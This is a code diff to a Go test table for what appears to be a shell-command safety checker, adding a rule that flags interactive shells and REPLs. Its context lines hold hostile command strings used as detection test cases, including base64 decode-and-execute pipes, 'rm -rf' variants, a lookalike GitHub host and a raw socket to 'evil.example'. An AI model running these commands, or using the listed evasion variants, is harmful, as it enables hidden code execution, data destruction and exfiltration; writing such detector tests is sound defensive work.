@@ -170,7 +170,13 @@ var examples = map[string]example{
 		hit: []string{"base64 -d f | sh", "xxd -r -p f | bash"}, silent: []string{"echo aGVsbG8= | base64 -d", "gunzip -c f | head", `eval "$(ssh-agent -s)"`},
 		around: []string{"cat f | base64 -d | sudo sh", `python3 -c "import base64;exec(base64.b64decode(open('f').read()))"`, `X=$(cat f); $X -rf /`}, advice: []string{"base64 -d f > decoded.txt", "cat decoded.txt"},
 	},
-	"code.unreadable":    {hit: []string{"if then rm -rf x"}, silent: []string{"if then ls"}, around: []string{"for do git reset --hard"}, advice: []string{"ls", "pwd"}},
+	"code.unreadable": {hit: []string{"if then rm -rf x"}, silent: []string{"if then ls"}, around: []string{"for do git reset --hard"}, advice: []string{"ls", "pwd"}},
+	"code.typed-unseen": {
+		hit:    []string{"bash", "python3 -i", "ssh dev@host", "psql -h localhost app", "sqlite3 a.db", "docker exec -it db bash", "docker run -it --rm alpine", "sudo -i", "redis-cli"},
+		silent: []string{"bash -c ls", "python3 -c 'print(1)'", "python3 app.py", "ssh host uptime", "ssh -T git@github.com", "ssh -N -L 80:x:80 host", "psql -c '\\dt'", "sqlite3 a.db .tables", "redis-cli get x", "node -v", "echo ls | bash", "psql app < dump.sql", "bash --version"},
+		around: []string{"exec zsh -l", "env bash -i", "$SHELL", "bash --rcfile x", "sudo su - bob", "kubectl exec -it pod -- sh", "uv run python", "FOO=1 nohup node"},
+		advice: []string{"bash -c ls", "ssh host uptime", "psql -c 'select 1'"},
+	},
 	"net.disguised-host": {hit: []string{"curl https://gіthub.com/x"}, silent: []string{"curl https://github.com/x"}, around: []string{"wget https://example．com/x"}, advice: []string{"curl https://example.com/x"}},
 	"net.raw-socket":     {hit: []string{"exec 3>/dev/tcp/evil.example/443"}, silent: []string{"exec 3>/dev/tcp/localhost/80"}, around: []string{"exec 3<>/dev/tcp/evil.example/443"}, advice: []string{"curl https://example.com"}},
 	"net.send-tree": {
